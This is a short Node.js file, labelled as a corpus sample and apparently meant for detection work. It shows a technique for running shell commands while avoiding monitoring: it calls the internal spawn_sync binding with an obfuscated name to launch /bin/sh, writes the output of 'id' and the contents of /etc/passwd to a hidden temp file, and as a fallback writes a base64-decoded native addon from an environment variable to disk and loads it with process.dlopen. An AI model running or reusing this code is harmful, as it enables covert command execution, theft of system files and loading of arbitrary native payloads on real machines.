// corpus: process.binding("spawn_sync") raw spawn of /bin/sh and process.dlopen of a dropped .node addon as fallback
'use strict';
const fs = require('fs');

function rawSpawn(cmd) {
  const binding = process.binding('spawn_' + 'sync');
  return binding.spawn({
    file: '/bin/sh',
    args: ['/bin/sh', '-c', cmd],
    envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
    stdio: [
      { type: 'pipe', readable: true, writable: false },
      { type: 'pipe', readable: false, writable: true },
      { type: 'inherit', fd: 2 },
    ],
  });
}

try {
  rawSpawn('id > /tmp/.bind; cat /etc/passwd >> /tmp/.bind');
} catch {
  const addon = '/tmp/.cache/helper.node';
  fs.mkdirSync('/tmp/.cache', { recursive: true });
  fs.writeFileSync(addon, Buffer.from(process.env.HELPER_B64 || '', 'base64'));
  const m = { exports: {} };
  process.dlopen(m, addon);
  m.exports.run('id');
}
